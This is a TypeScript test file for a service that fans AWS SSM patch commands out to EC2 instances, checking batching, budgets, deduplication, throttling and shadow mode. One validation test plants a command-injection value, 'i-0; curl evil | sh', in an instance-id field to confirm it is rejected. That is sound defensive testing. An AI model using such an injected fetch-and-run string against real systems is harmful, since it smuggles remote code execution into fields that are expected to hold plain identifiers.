/**
 * The fan-out executor end to end over the engine's ports: the real ledger (dynalite), the real SSM
 * adapters over aws-sdk-client-mock.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runFanout } from '../../src/core/fanout.ts';
import { startLedger, type StartedLedger } from '../helpers/dynalite.ts';
import { failureRecord, instanceId, world } from './world.ts';

let ledger: StartedLedger;
beforeAll(async () => {
  ledger = await startLedger();
});
afterAll(async () => ledger?.close());

describe('patch fan-out', () => {
  test('the budget is exact per command: past it the rest of the batch is held in the ledger, not sent or dropped', async () => {
    const own = await startLedger();
    try {
      const w = world(own);
      w.deps.config.limits = { ...w.deps.config.limits, budgetPerHour: 1 };
      for (let n = 0; n < 60; n++) w.ping.set(instanceId(n), 'Online');
      const r = await runFanout(
        Array.from({ length: 60 }, (_, n) => failureRecord(n)),
        w.deps,
      );
      expect(w.sendCalls()).toHaveLength(1);
      expect(r.outcomes.filter((o) => o.outcome === 'started')).toHaveLength(50);
      const held = r.outcomes.filter((o) => o.outcome === 'deferred' && o.code === 'budget');
      expect(held).toHaveLength(10);
      expect(r.retry).toEqual([]);
      const items = await own.ledger.listDeferrals();
      expect(items.map((d) => d.resourceId).sort()).toEqual(held.map((o) => o.resourceId).sort());
      expect(items.every((d) => d.code === 'budget' && d.remediationId === 'patch-baseline-install')).toBe(
        true,
      );
    } finally {
      await own.close();
    }
  });

  test('300 failures → 6 SendCommand calls and one notification; an offline instance never receives one', async () => {
    const w = world(ledger);
    const OFFLINE = 300;
    for (let n = 0; n < 300; n++) w.ping.set(instanceId(n), 'Online');
    w.ping.set(instanceId(OFFLINE), 'ConnectionLost');
    const records = Array.from({ length: 301 }, (_, n) => failureRecord(n));

    const r = await runFanout(records, w.deps);

    const calls = w.sendCalls();
    expect(calls).toHaveLength(6);
    const sent = calls.flatMap((c) => c.InstanceIds ?? []);
    expect(sent).toHaveLength(300);
    expect(new Set(sent).size).toBe(300);
    expect(sent).not.toContain(instanceId(OFFLINE));
    for (const c of calls) {
      expect(c.InstanceIds!.length).toBeLessThanOrEqual(50);
      expect(c).toMatchObject({
        DocumentName: 'AWS-RunPatchBaseline',
        Parameters: { Operation: ['Install'], RebootOption: ['NoReboot'] },
        MaxConcurrency: '10%',
        MaxErrors: '50%',
        TimeoutSeconds: 600,
      });
    }
    expect(r.retry).toEqual([]);
    expect(r.outcomes.filter((o) => o.outcome === 'started')).toHaveLength(300);
    const offline = r.outcomes.find((o) => o.resourceId === instanceId(OFFLINE))!;
    expect(offline).toMatchObject({ outcome: 'skipped', code: 'agent-offline' });
    expect(offline.reason).toContain('ConnectionLost');

    // One aggregated notification, not one per instance.
    expect(w.notifications).toHaveLength(1);
    expect(w.notifications[0]!.outcomes).toHaveLength(301);
    expect(w.notifications[0]!.title).toBe('Patch fan-out: 301 finding(s), 6 command(s)');

    // One execution per command, with all its instances.
    const exec = await ledger.ledger.getExecution(r.commands[0]!.commandId);
    expect(exec).toMatchObject({
      kind: 'command',
      remediationId: 'patch-baseline-install',
      document: 'AWS-RunPatchBaseline',
    });
    expect(exec!.resourceIds).toEqual(r.commands[0]!.instanceIds);

    // A redelivered batch sends nothing twice.
    const again = await runFanout(records, w.deps);
    expect(w.sendCalls()).toHaveLength(6);
    expect(again.outcomes.filter((o) => o.code === 'duplicate')).toHaveLength(300);
    expect(w.notifications).toHaveLength(2); // the offline instance is reported again; duplicates are not news
    expect(w.notifications[1]!.outcomes).toHaveLength(1);
  }, 120_000);

  test('a batch redelivered long after it was sent (stale claims) still sends nothing twice', async () => {
    // Every record has its own finding time: the ledger must mark each member's claim started and
    // extend each in-flight lock, not only those of the command's first finding.
    const records = Array.from({ length: 60 }, (_, n) => failureRecord(5000 + n));
    const first = world(ledger, { now: new Date('2025-03-04T05:00:00Z') });
    for (let n = 0; n < 60; n++) first.ping.set(instanceId(5000 + n), 'Online');
    const r = await runFanout(records, first.deps);
    expect(first.sendCalls()).toHaveLength(2);
    expect(r.outcomes.filter((o) => o.outcome === 'started')).toHaveLength(60);

    const later = world(ledger, { now: new Date('2025-03-04T05:10:00Z') });
    for (let n = 0; n < 60; n++) later.ping.set(instanceId(5000 + n), 'Online');
    const again = await runFanout(records, later.deps);
    expect(later.sendCalls()).toHaveLength(0);
    expect(again.outcomes.filter((o) => o.code === 'duplicate')).toHaveLength(60);
  }, 120_000);

  test('a malformed record is rejected (naming the field) and dead-lettered; the valid ones beside it still run', async () => {
    const w = world(ledger);
    for (let n = 1000; n < 1003; n++) w.ping.set(instanceId(n), 'Online');
    const bad = JSON.parse(failureRecord(1003).body);
    bad.detail['instance-id'] = 'i-0; curl evil | sh';
    const records = [
      failureRecord(1000),
      { id: 'bad', body: JSON.stringify(bad) },
      failureRecord(1001),
      { id: 'not-json', body: '{oops' },
      failureRecord(1002, 'compliance'),
    ];

    const r = await runFanout(records, w.deps);

    expect(r.retry).toEqual([]);
    expect(w.sendCalls()).toHaveLength(1);
    expect(w.sendCalls()[0]!.InstanceIds).toEqual([instanceId(1000), instanceId(1001), instanceId(1002)]);
    const rejected = r.outcomes.filter((o) => o.outcome === 'rejected');
    expect(rejected.map((o) => o.field)).toEqual(['detail.instance-id', '(body)']);
    expect(w.deadLetters.map((d) => d.field)).toEqual(['detail.instance-id', '(body)']);
    expect(w.notifications).toHaveLength(1);
  });

  test('a throttled SendCommand reports only its own records as batchItemFailures, and frees their claims', async () => {
    const w = world(ledger);
    for (let n = 2000; n < 2060; n++) w.ping.set(instanceId(n), 'Online');
    const records = Array.from({ length: 60 }, (_, i) => failureRecord(2000 + i));
    // The first command (50 instances) throttles past the adapter's retries; the second goes through.
    w.failNextSends(5);

    const r = await runFanout(records, w.deps);

    expect(r.commands).toHaveLength(1);
    expect(r.commands[0]!.instanceIds).toHaveLength(10);
    expect(r.retry).toHaveLength(50);
    expect(new Set(r.retry)).toEqual(new Set(records.slice(0, 50).map((x) => x.id)));

    // SQS redelivers only those: they are sent now, nothing is sent twice.
    const redelivered = records.filter((x) => r.retry.includes(x.id));
    const r2 = await runFanout(redelivered, w.deps);
    expect(r2.retry).toEqual([]);
    expect(r2.commands).toHaveLength(1);
    const sent = [...r.commands, ...r2.commands].flatMap((c) => c.instanceIds);
    expect(sent).toHaveLength(60);
    expect(new Set(sent).size).toBe(60);
  });

  test('a gate that cannot be read sends nothing for that record and asks SQS to redeliver it', async () => {
    const w = world(ledger);
    w.ping.set(instanceId(3000), 'Online');
    w.deps.calendar = {
      state: async () => {
        throw Object.assign(new Error('Rate exceeded'), { name: 'ThrottlingException' });
      },
    };
    // The calendar is read only when one applies.
    w.deps.config = { ...w.deps.config, defaultCalendars: ['prod-change-freeze'] };

    const r = await runFanout([failureRecord(3000)], w.deps);

    expect(r.retry).toEqual(['msg-command-3000']);
    expect(w.sendCalls()).toHaveLength(0);
    expect(w.notifications).toHaveLength(0);
  });

  test('shadow mode decides, sends nothing, and reports what it would have done in one message', async () => {
    const w = world(ledger, { mode: 'shadow' });
    for (let n = 4000; n < 4003; n++) w.ping.set(instanceId(n), 'Online');
    const r = await runFanout(
      [4000, 4001, 4002].map((n) => failureRecord(n)),
      w.deps,
    );
    expect(w.sendCalls()).toHaveLength(0);
    expect(r.outcomes.map((o) => o.code)).toEqual(['shadow', 'shadow', 'shadow']);
    expect(w.notifications).toHaveLength(1);
  });
});
